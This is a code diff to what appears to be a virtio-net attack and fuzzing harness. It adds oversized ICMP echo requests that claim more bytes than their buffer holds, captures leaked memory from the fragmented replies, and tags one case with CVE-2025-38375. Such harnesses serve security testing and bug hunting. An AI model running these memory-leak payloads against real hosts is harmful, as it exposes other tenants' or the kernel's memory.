@@ -107,6 +107,8 @@ class Frames(Attack):
             if _MARK * 8 in frame:
                 # An answer that quotes us. What comes after the mark, we never sent.
                 self.capture(frame[frame.rindex(_MARK * 8) + 8:])
+            elif frame[12:14] == b"\x08\0" and int.from_bytes(frame[20:22], "big") & 0x1FFF:
+                self.capture(frame[34:])  # what follows of an answer that is longer than a frame
             talk = listen(frame) if self._left else None
             if talk is not None:
                 self._left -= 1
@@ -205,6 +207,11 @@ def _stale_echo(talk: Talk) -> list[Delivery]:
     return [Delivery(_longer_ip(_echo(talk, _MARK * 8), _STALE), dict(_VALID), claim=HDR.size + 14 + _STALE)]
 
 
+def _beyond(size: int) -> Callable[[Talk], list[Delivery]]:
+    """An echo request that claims more than its buffer, in used.len and in itself; the answer sends the rest back."""
+    return lambda talk: [Delivery(_longer_ip(_echo(talk, _MARK * 8), size), dict(_VALID), claim=HDR.size + 14 + size)]
+
+
 def _stale_udp(talk: Talk) -> list[Delivery]:
     """A datagram to a closed port, longer than sent: the ICMP error quotes it."""
     frame = _longer_ip(_udp(talk, _MARK * 8), _STALE)
@@ -295,6 +302,8 @@ _Row = tuple[str, Surface, Aim, str, "Callable[[Talk], list[Delivery]]"]
 _ROWS: Final[tuple[_Row, ...]] = (
     ("echo-stale", Surface.LENGTH, Aim.LEAK, "sends an echo request longer than what it wrote", _stale_echo),
     ("udp-stale", Surface.LENGTH, Aim.LEAK, "sends a datagram longer than what it wrote", _stale_udp),
+    *((f"echo-beyond-{size}", Surface.LENGTH, Aim.LEAK, f"sends an echo request of {size:,} bytes in a smaller buffer",
+       _beyond(size)) for size in (4000, 9000, 40000, 65000)),
     ("frames-runt", Surface.LENGTH, Aim.MEMORY, "sends frames of 0 to 15 bytes", _runts),
     ("frames-jumbo", Surface.LENGTH, Aim.MEMORY, "sends a frame of 60,000 bytes without segmentation", _jumbo),
     ("frames-ip-lengths", Surface.LENGTH, Aim.MEMORY, "sends IPv4 headers longer than their packet, and cut ones",
@@ -333,6 +342,7 @@ _KNOWN: Final = {
     "frames-tcp-gso-long": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
     "frames-tcp-gso-one": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
     "frames-tcp-gso-train": "virtio-net: TCP packets overflow gso_segs, Linux 6.1.188",
+    "echo-beyond-40000": "CVE-2025-38375",
     "merge-tail-beyond": "CVE-2025-38375",
     "merge-tail-max": "CVE-2025-38375",
 }
